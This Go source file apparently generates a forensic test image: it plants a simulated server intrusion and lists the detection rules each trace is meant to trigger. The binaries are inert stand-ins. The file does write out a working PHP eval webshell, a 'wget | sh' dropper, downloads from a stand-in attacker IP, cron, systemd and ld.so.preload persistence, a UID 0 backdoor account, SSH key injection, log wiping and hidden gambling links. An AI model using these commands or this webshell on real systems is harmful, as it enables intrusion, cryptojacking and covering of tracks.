package demo

import (
	"encoding/base64"
	"fmt"
	"os"
	"strings"
	"time"
)

// The intruder's traces. All of it is inert data written by the project:
// the programs are stand-ins that only look like what they replace.

const (
	minerUnit     = "system-update.service"
	minerUnitDesc = "System Update Service"
)

var (
	minerWallet = wallet("yingji demo wallet")
	minerArgs   = "-o " + poolURL + " -u " + minerWallet + " -p " + hostname + " -k --donate-level 1"
	minerCron   = "pgrep -x kworkerds >/dev/null || " + minerBin + " -B " + minerArgs + " >/dev/null 2>&1"
)

// darkLinks is the hidden gambling link block injected into the home
// page: off-screen, for search engines only (黑链).
const darkLinks = `<div style="position:absolute;left:-9999px;top:-9999px">
<a href="http://www.amjs-bet.invalid/" target="_blank">澳门博彩</a>
<a href="http://bjl.vip-game.invalid/" target="_blank">百家乐</a>
<a href="http://www.zr-yule.invalid/" target="_blank">真人娱乐</a>
<a href="http://ty.sports-bet.invalid/" target="_blank">体育投注</a>
<a href="http://www.pj-casino.invalid/" target="_blank">澳门葡京娱乐场</a>
<a href="http://cp.ssc-win.invalid/" target="_blank">时时彩平台</a>
<a href="http://www.dz-slots.invalid/" target="_blank">电子游艺</a>
</div>
`

// webshellCode is the PHP webshell: runs base64-encoded PHP posted in
// one parameter (what AntSword and China Chopper clients send). It is
// data; yingji never runs it.
const webshellCode = `<?php
/* Cache configuration */
error_reporting(0);
if (isset($_POST['x9'])) {
    @eval(base64_decode($_POST['x9']));
}
?>
`

// minerConfig is an XMRig-style configuration.
func minerConfig() string {
	return `{
    "api": {
        "id": null,
        "worker-id": null
    },
    "autosave": true,
    "background": true,
    "colors": false,
    "donate-level": 1,
    "donate-over-proxy": 1,
    "log-file": null,
    "print-time": 60,
    "retries": 5,
    "retry-pause": 5,
    "syslog": false,
    "randomx": {
        "init": -1,
        "mode": "auto",
        "1gb-pages": false,
        "numa": true
    },
    "cpu": {
        "enabled": true,
        "huge-pages": true,
        "hw-aes": null,
        "priority": null,
        "max-threads-hint": 75,
        "asm": true,
        "argon2-impl": null
    },
    "opencl": false,
    "cuda": false,
    "pools": [
        {
            "algo": "rx/0",
            "coin": "monero",
            "url": "` + poolURL + `",
            "user": "` + minerWallet + `",
            "pass": "` + hostname + `",
            "rig-id": "` + hostname + `",
            "nicehash": false,
            "keepalive": true,
            "enabled": true,
            "tls": false,
            "tls-fingerprint": null
        },
        {
            "algo": "rx/0",
            "coin": "monero",
            "url": "` + poolTLSURL + `",
            "user": "` + minerWallet + `",
            "pass": "` + hostname + `",
            "keepalive": true,
            "enabled": true,
            "tls": true
        }
    ]
}
`
}

// standInELF returns an inert file that starts like an ELF program
// (etype 2) or shared library (3) of x86_64 and carries the strings a
// scanner keys on. It has no code: nothing in it can run.
func standInELF(etype byte, strs ...string) []byte {
	hdr := []byte("\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00")
	hdr = append(hdr, etype, 0, 0x3e, 0, 1, 0, 0, 0)
	hdr = append(hdr, make([]byte, 64-len(hdr))...)
	out := append(hdr, "\x00"+standIn+"\x00"...)
	for _, s := range strs {
		out = append(out, s...)
		out = append(out, 0)
	}
	return append(out, "\x00"+standIn+"\x00"...)
}

func minerStandIn() []byte {
	return standInELF(2,
		"XMRig 6.21.0", "built on Mar 30 2024 with GCC 13.2.1", "xmrig", "Usage: xmrig [OPTIONS]",
		"https://xmrig.com/wizard", "xmrig.json", "config.json",
		"--donate-level=N", "--donate-level", "--cpu-max-threads-hint=N", "--randomx-1gb-pages",
		"randomx", "rx/0", "rx/wow", "cn/r", "cryptonight", "argon2/chukwa",
		"stratum+tcp://", "stratum+ssl://", "\"login\"", "\"keepalived\"", "nicehash",
		"huge pages %s%1.0f%% %u/%u", "msr", "READY threads %u/%u", "new job from %s:%d diff %lu algo %s",
		"speed 10s/60s/15m %s %s %s H/s max %s H/s", "kworkerds")
}

func hiderStandIn() []byte {
	return standInELF(3,
		"libprocesshider.so", "process_to_filter", "kworkerds", "get_dir_name", "get_process_name",
		"/proc/self/fd/%d", "/proc/%s/stat", "readdir", "readdir64", "dlsym", "Error in dlsym: %s", "GLIBC_2.2.5")
}

// attack writes the intruder's traces and returns them as items.
func (b *builder) attack(h *Host) error {
	t := b.t
	attackerKey := authorizedKey(attackerKeySeed, "root@kali")
	day := int(t.attack.Unix() / 86400)

	// The miner and its configuration, staged in a hidden directory of
	// /var/tmp.
	if err := b.write(minerBin, minerStandIn(), 0o755, t.cmd["curl"].Add(time.Second)); err != nil {
		return err
	}
	if err := b.write(minerConf, []byte(minerConfig()), 0o644, t.cmd["dropper"].Add(4*time.Second)); err != nil {
		return err
	}
	// Started again every 30 minutes by root's crontab...
	cron := fmt.Sprintf("# DO NOT EDIT THIS FILE - edit the master and reinstall.\n# (- installed on %s)\n# (Cron version -- $Id: crontab.c,v 2.13 1994/01/17 03:20:37 vixie Exp $)\n*/30 * * * * %s\n",
		t.cmd["crontab"].Format("Mon Jan _2 15:04:05 2006"), minerCron)
	if err := b.write("/var/spool/cron/crontabs/root", []byte(cron), 0o600, t.cmd["crontab"]); err != nil {
		return err
	}
	// ...and by a service that looks like the system's own.
	unit := lines(`[Unit]`, `Description=`+minerUnitDesc, `After=network-online.target`, `Wants=network-online.target`, ``,
		`[Service]`, `Type=simple`, `ExecStart=`+minerBin+` --config=`+minerConf+` `+minerArgs, `Restart=always`, `RestartSec=30`, `Nice=10`, ``,
		`[Install]`, `WantedBy=multi-user.target`)
	if err := b.write("/etc/systemd/system/"+minerUnit, []byte(unit), 0o644, t.cmd["enable"].Add(-3*time.Second)); err != nil {
		return err
	}
	if err := b.link("../"+minerUnit, "etc/systemd/system/multi-user.target.wants/"+minerUnit, t.cmd["enable"]); err != nil {
		return err
	}
	// A process hider preloaded into every program, to hide the miner
	// from ps and top.
	if err := b.write(preloadLib, hiderStandIn(), 0o755, t.cmd["lib"].Add(time.Second)); err != nil {
		return err
	}
	if err := b.write("/etc/ld.so.preload", []byte(preloadLib+"\n"), 0o644, t.cmd["preload"]); err != nil {
		return err
	}
	// A second root account.
	if err := b.appendTo("/etc/passwd", backdoor+":x:0:0::/root:/bin/bash\n", t.cmd["useradd"]); err != nil {
		return err
	}
	if err := b.appendTo("/etc/shadow", fmt.Sprintf("%s:$y$j9T$Q1w2E3r4T5y6U7i8O9p0a.$kX4dL9mQ2vN7bR5tY8wZ1cF3gH6jK0pS2uV4xA7eB9.:%d:0:99999:7:::\n", backdoor, day), t.cmd["chpasswd"]); err != nil {
		return err
	}
	// The intruder's own key for root, beside the administrator's.
	keys := authorizedKey(adminKeySeed, admin+"@zw-thinkpad") + "\n" + attackerKey + "\n"
	if err := b.write("/root/.ssh/authorized_keys", []byte(keys), 0o600, t.cmd["key"]); err != nil {
		return err
	}
	// The webshell, as a hidden file among the uploads.
	if err := b.write(webshell, []byte(webshellCode), 0o644, t.webshell); err != nil {
		return err
	}
	// The gambling links, written through the webshell the next evening.
	idx := b.path(webRoot + "/index.html")
	page, err := os.ReadFile(idx)
	if err != nil {
		return err
	}
	injected := strings.Replace(string(page), "<body>\n", "<body>\n"+darkLinks, 1)
	if err := b.write(webRoot+"/index.html", []byte(injected), 0o644, t.darkLink); err != nil {
		return err
	}
	// root's shell history: the administrator's old commands, then the
	// intruder's session (the 等保 baseline of /etc/profile.d/history.sh
	// writes every command at once, with its time).
	if err := b.write("/root/.bash_history", []byte(rootHistory(t, attackerKey)), 0o600, rootHistoryEnd(t)); err != nil {
		return err
	}

	h.Planted = []Item{
		{Name: "SSH password brute force from two addresses, then a root login with the password found",
			NameZh: "来自两个地址的 SSH 口令暴力破解，随后以破解出的口令登录 root",
			Paths:  []string{"/var/log/auth.log", "/var/log/btmp", "/var/log/wtmp", "/var/log/lastlog"},
			Rules:  []string{"logins.btmp_brute_force", "logins.success_after_failures", "logins.root_remote_login", "log.ssh_bruteforce", "log.ssh_bruteforce_success"}},
		{Name: "Intruder's SSH key added to root's authorized_keys", NameZh: "root 的 authorized_keys 中被加入攻击者公钥",
			Paths: []string{"/root/.ssh/authorized_keys"},
			Rules: []string{"accounts.authorized_keys_recent", "accounts.authorized_keys_foreign_comment"}},
		{Name: "Cryptocurrency miner (stand-in) with its XMRig configuration in a hidden directory of /var/tmp", NameZh: "隐藏于 /var/tmp 中的挖矿程序（替身文件）及其 XMRig 配置",
			Paths: []string{minerBin, minerConf},
			Rules: []string{"malware.yara", "rootkit.hidden_executable"}},
		{Name: "root crontab entry restarting the miner every 30 minutes", NameZh: "root 的计划任务每 30 分钟重新启动挖矿程序",
			Paths: []string{"/var/spool/cron/crontabs/root", "/var/log/syslog"},
			Rules: []string{"persistence.cron_user_exec", "persistence.cron_user_privileged", "malware.yara"}},
		{Name: "systemd service " + minerUnit + " starting the miner at boot", NameZh: "systemd 服务 " + minerUnit + " 开机启动挖矿程序",
			Paths: []string{"/etc/systemd/system/" + minerUnit, "/etc/systemd/system/multi-user.target.wants/" + minerUnit},
			Rules: []string{"persistence.systemd_unit_exec", "persistence.systemd_enabled_unowned", "malware.yara"}},
		{Name: "Process hider preloaded through /etc/ld.so.preload", NameZh: "通过 /etc/ld.so.preload 预加载的进程隐藏库",
			Paths: []string{"/etc/ld.so.preload", preloadLib},
			Rules: []string{"persistence.ld_so_preload", "rootkit.preload_library", "rootkit.hidden_executable", "malware.yara"}},
		{Name: "Backdoor account " + backdoor + " with UID 0", NameZh: "UID 为 0 的后门账户 " + backdoor,
			Paths: []string{"/etc/passwd", "/etc/shadow"},
			Rules: []string{"accounts.uid0_extra"}},
		{Name: "PHP webshell among the uploads, and its requests in the access log", NameZh: "上传目录中的 PHP 网页后门及访问日志中的请求记录",
			Paths: []string{webshell, "/var/log/nginx/access.log"},
			Rules: []string{"malware.webshell", "malware.yara", "log.webshell_requests", "log.webshell_access"}},
		{Name: "Hidden gambling links (黑链) injected into the home page", NameZh: "首页被植入隐藏的博彩黑链",
			Paths: []string{webRoot + "/index.html"},
			Rules: []string{"web.dark_link"}},
		{Name: "The intruder's commands in root's shell history", NameZh: "root 历史命令中的攻击者操作",
			Paths: []string{"/root/.bash_history"},
			Rules: []string{"logins.history_download_exec", "logins.history_adds_access", "logins.history_log_wipe"}},
	}
	return nil
}

// session1 is the intruder's first session as root, command by command:
// a key and the seconds since the previous command. The files it writes
// take their times from it.
var session1 = []struct {
	key string
	gap int
}{
	{"w", 14}, {"uname", 6}, {"cpuinfo", 5}, {"free", 7}, {"ps", 9}, {"mkdir", 31}, {"dropper", 9}, {"curl", 11}, {"chmod", 8}, {"nohup", 14},
	{"ps2", 41}, {"crontab", 56}, {"vi", 51}, {"enable", 8}, {"lib", 23}, {"preload", 8}, {"ps3", 9}, {"useradd", 34}, {"chpasswd", 21},
	{"key", 27}, {"keymode", 12}, {"www", 191}, {"webshell", 302}, {"chown", 9}, {"history", 40}, {"wipe", 12}, {"exit", 20},
}

// session2 is the intruder's second session, with the planted key.
var session2 = []struct {
	key string
	gap int
}{{"top", 9}, {"conf", 14}, {"tail", 150}, {"exit2", 200}}

// sessionTimes returns when each command of the intruder's sessions ran.
func sessionTimes(attack, keyLogin time.Time) map[string]time.Time {
	m := map[string]time.Time{}
	at := attack
	for _, s := range session1 {
		at = at.Add(time.Duration(s.gap) * time.Second)
		m[s.key] = at
	}
	at = keyLogin
	for _, s := range session2 {
		at = at.Add(time.Duration(s.gap) * time.Second)
		m[s.key] = at
	}
	return m
}

// rootHistory is root's .bash_history: the administrator's commands of
// the first days (before the history baseline), then the intruder's two
// sessions with their times.
func rootHistory(t *timeline, attackerKey string) string {
	var w strings.Builder
	w.WriteString(lines("apt update", "apt install -y nginx php8.2-fpm", "systemctl enable --now nginx", "vi /etc/nginx/sites-available/default",
		"nginx -t", "systemctl reload nginx", "adduser "+admin, "usermod -aG sudo "+admin, "vi /etc/profile.d/history.sh", "exit"))
	cmds := map[string]string{
		"w": "w", "uname": "uname -a", "cpuinfo": "cat /proc/cpuinfo | grep 'model name' | wc -l", "free": "free -m", "ps": "ps aux --sort=-%cpu | head",
		"mkdir":    "cd /var/tmp && mkdir .kworker && cd .kworker",
		"dropper":  "wget -q " + dropURL + " -O - | sh",
		"curl":     "curl -fsSL http://203.0.113.45:8080/kworkerds -o " + minerBin,
		"chmod":    "chmod +x " + minerBin,
		"nohup":    "nohup " + minerBin + " -B " + minerArgs + " >/dev/null 2>&1 &",
		"ps2":      "ps aux | grep kworkerds",
		"crontab":  fmt.Sprintf(`(crontab -l 2>/dev/null; echo "*/30 * * * * %s") | crontab -`, minerCron),
		"vi":       "vi /etc/systemd/system/" + minerUnit,
		"enable":   "systemctl daemon-reload && systemctl enable --now " + strings.TrimSuffix(minerUnit, ".service"),
		"lib":      "wget -q http://203.0.113.45:8080/libprocesshider.so -O " + preloadLib,
		"preload":  "echo " + preloadLib + " > /etc/ld.so.preload",
		"ps3":      "ps aux | grep kworkerds",
		"useradd":  "useradd -o -u 0 -g 0 -M -d /root -s /bin/bash " + backdoor,
		"chpasswd": "echo '" + backdoor + ":Xm0nero@2024' | chpasswd",
		"key":      "mkdir -p /root/.ssh && echo '" + attackerKey + "' >> /root/.ssh/authorized_keys",
		"keymode":  "chmod 600 /root/.ssh/authorized_keys",
		"www":      "cd /var/www/html && ls -la && ls uploads",
		"webshell": "echo " + base64.StdEncoding.EncodeToString([]byte(webshellCode)) + " | base64 -d > uploads/.config.php",
		"chown":    "chown www-data:www-data uploads/.config.php",
		"history":  "history -c",
		"wipe":     "cat /dev/null > /var/log/nginx/error.log",
		"exit":     "exit",
		"top":      "top -b -n 1 | head -15",
		"conf":     "cat " + minerConf + " | grep url",
		"tail":     "tail -n 20 /var/log/nginx/access.log",
		"exit2":    "exit",
	}
	for _, s := range session1 {
		fmt.Fprintf(&w, "#%d\n%s\n", t.cmd[s.key].Unix(), cmds[s.key])
	}
	for _, s := range session2 {
		fmt.Fprintf(&w, "#%d\n%s\n", t.cmd[s.key].Unix(), cmds[s.key])
	}
	return w.String()
}

func rootHistoryEnd(t *timeline) time.Time { return t.cmd["exit2"] }

// appendTo appends to a file already written and sets its time, as the
// shadow tools do: a new file renamed over the old one.
func (b *builder) appendTo(name, text string, mtime time.Time) error {
	f, err := os.OpenFile(b.path(name), os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	if _, err := f.WriteString(text); err != nil {
		f.Close()
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	// useradd and chpasswd write a new file and rename it over the old.
	b.times[merged(name)], b.born[merged(name)] = mtime, mtime
	return nil
}
